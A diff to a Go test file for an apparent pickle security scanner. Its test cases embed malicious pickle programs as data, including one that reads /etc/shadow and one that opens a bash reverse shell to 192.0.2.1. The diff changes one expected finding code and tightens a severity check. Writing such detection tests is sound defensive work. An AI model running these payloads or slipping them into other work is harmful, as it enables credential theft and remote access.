@@ -56,14 +56,14 @@ func TestCarriedCode(t *testing.T) {
 		{"cloudpickle", `PROTO 4; GLOBAL "cloudpickle.cloudpickle" "_builtin_type"; UNICODE "CodeType"; TUPLE1; REDUCE; MARK; UNICODE "os"; UNICODE "system"; TUPLE2; TUPLE; REDUCE; STOP`, "MA105", "starts programs (os system)"},
 		{"applied method", `GLOBAL "operator" "methodcaller"; UNICODE "system"; UNICODE "cat /etc/shadow"; TUPLE2; REDUCE; GLOBAL "os" "name"; TUPLE1; REDUCE; STOP`, "MA105", "reads credentials"},
 		{"unlisted function", `GLOBAL "acme" "run"; UNICODE "bash -i >& /dev/tcp/192.0.2.1/1"; TUPLE1; REDUCE; STOP`, "MA102 acme.run", "a text that it is given opens a reverse shell"},
-		{"legacy source", fmt.Sprintf(`MARK; UNICODE "module"; GLOBAL "acme" "Net"; UNICODE "net.py"; UNICODE %q; TUPLE; BINPERSID; STOP`, reverse), "MA108", "opens a reverse shell"},
+		{"legacy source", fmt.Sprintf(`MARK; UNICODE "module"; GLOBAL "acme" "Net"; UNICODE "net.py"; UNICODE %q; TUPLE; BINPERSID; STOP`, reverse), "MA111", "opens a reverse shell"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			f := theFinding(t, tt.program, tt.finding)
 			if !strings.Contains(f.Message, tt.says) {
 				t.Errorf("%s\ndoes not say %q", f.Message, tt.says)
 			}
-			if tt.name != "cloudpickle" && f.Severity != audit.Critical {
+			if f.Severity != audit.Critical {
 				t.Errorf("severity %s: %s", f.Severity, f.Message)
 			}
 		})
